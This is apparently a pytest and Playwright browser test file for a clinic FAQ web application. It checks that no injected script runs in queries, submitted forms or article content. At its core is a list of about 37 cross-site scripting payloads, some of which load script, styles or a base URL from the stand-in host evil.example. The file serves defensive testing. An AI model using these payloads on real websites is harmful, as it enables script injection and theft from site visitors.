"""No script runs but our own, whatever is typed, sent without the script, or written into an article (A16)."""

import html
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, Page

from app import create_app
from tests.browser.conftest import Open, ask, serve
from tests.conftest import CLINIC, CONTENT

MARK = "alert(7331)"
TAGS = {
    "script": f"<script>{MARK}</script>",
    "script, broken": f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    "script, capitals": f"<ScRiPt >{MARK}</sCrIpT>",
    "script, elsewhere": "<script src=//evil.example/x.js></script>",
    "picture": f"<img src=x onerror={MARK}>",
    "picture, quoted": f"\"><img src='x' onerror='{MARK}'>",
    "drawing": f"<svg onload={MARK}>",
    "drawing, animated": f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    "drawing, nested": f"<svg><script>{MARK}</script></svg>",
    "formula": f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    "video": f"<video><source onerror={MARK}></video>",
    "sound": f"<audio src=x onerror={MARK}>",
    "details": f"<details open ontoggle={MARK}>x</details>",
    "focus": f"<input autofocus onfocus={MARK}>",
    "select": f"<select autofocus onfocus={MARK}><option>x</select>",
    "frame": f'<iframe src="javascript:parent.{MARK}"></iframe>',
    "frame, written": f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    "object": f'<object data="javascript:{MARK}"></object>',
    "base": "<base href=//evil.example/>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    "style": f"<style>@import '//evil.example/x.css';</style><b style=\"background:url('javascript:{MARK}')\">x</b>",
    "link": f'<a href="javascript:{MARK}" id=hit>x</a>',
    "link, tab inside": f'<a href="jav&#9;ascript:{MARK}">x</a>',
    "form": f'<form action="javascript:{MARK}"><button>x</button></form>',
    "comment": f"<!--><img src=x onerror={MARK}>-->",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    "template": f"<template><script>{MARK}</script></template>",
    "text area": f"</textarea><script>{MARK}</script>",
    "title": f"</title><script>{MARK}</script>",
    "data block": f"</script><script>{MARK}</script>",
    "entities": f"&lt;img src=x onerror={MARK}&gt;&#60;svg onload={MARK}&#62;",
    "attribute": f"' autofocus onfocus={MARK} x='",
    "attribute, double": f'" autofocus onfocus={MARK} x="',
    "back ticks": f"`${{{MARK}}}`",
    "braces": f"{{{{constructor.constructor('{MARK}')()}}}}",
    "full width": f"＜script＞{MARK}＜/script＞",
    "NUL": f"<scr\x00ipt>{MARK}</scr\x00ipt>",
}
WATCH = "addEventListener('securitypolicyviolation', event => console.log('CSP ' + event.violatedDirective))"


@pytest.fixture
def watched(visit: Open) -> tuple[Page, list[str]]:
    """A page, and what must stay empty: dialogs, requests to others, complaints of the browser."""
    page = visit("/")
    seen: list[str] = []

    def note(dialog: Dialog) -> None:
        seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.add_init_script(WATCH)
    page.on("dialog", note)
    page.on("console", lambda line: seen.append(line.text))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("request", lambda sent: seen.append(sent.url) if "evil" in sent.url else None)
    page.goto("/")
    return page, seen


def test_there_are_enough_tricks() -> None:
    assert len(TAGS) >= 30


def test_what_is_typed_is_shown_as_text(watched: tuple[Page, list[str]]) -> None:
    page, seen = watched
    for name, trick in TAGS.items():
        ask(page, f"cure {trick}")
        shown = page.locator(".asked h2").first.inner_text()
        assert MARK in shown or "evil" in shown, name
    assert page.evaluate("document.querySelectorAll('main script, main img, main iframe, main object').length") == 0
    assert seen == []


def test_what_is_sent_without_the_script_is_shown_as_text(watched: tuple[Page, list[str]]) -> None:
    page, seen = watched
    for name, trick in TAGS.items():
        page.goto("/")
        page.locator("#question").fill(f"cure {trick}")
        with page.expect_navigation():
            page.evaluate("document.querySelector('#question').form.submit()")
        shown = page.locator(".asked h2").first.inner_text()
        assert MARK in shown or "evil" in shown, name
    assert seen == []


def test_a_page_that_runs_typed_script_would_be_noticed(watched: tuple[Page, list[str]]) -> None:
    page, seen = watched
    page.route("**/planted", lambda route: route.fulfill(body=TAGS["picture"], content_type="text/html"))
    page.goto("/planted")
    page.wait_for_timeout(200)
    assert "dialog 7331" in seen


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """A site with an article into which somebody wrote every trick that the check lets through."""
    book = Path(shutil.copytree(CONTENT, tmp_path_factory.mktemp("poisoned") / "faq"))
    article = book / "articles" / "til-therapy-melanoma.md"
    inert = "\n\n".join(
        f"`{trick}`".replace("`$", "` $") for name, trick in TAGS.items() if "`" not in trick and name != "NUL"
    )
    escaped = "\n\n".join(html.escape(trick) for name, trick in TAGS.items() if name != "NUL")
    text = article.read_text(encoding="utf-8")
    head, heading, rest = text.partition("\n## ")
    article.write_text(f"{head}\n\n{inert}\n\n{escaped}\n{heading}{rest}", encoding="utf-8")
    for address in serve(create_app(CLINIC | {"FAQ_DIR": str(book)})):
        yield address, book


def test_what_is_written_into_an_article_is_shown_as_text(
    poisoned: tuple[str, Path], watched: tuple[Page, list[str]]
) -> None:
    page, seen = watched
    page.goto(f"{poisoned[0]}/articles/til-therapy-melanoma")
    assert page.locator("main").inner_text().count(MARK) > 30
    assert [line for line in seen if "dialog" in line or "evil" in line or "CSP" in line] == []
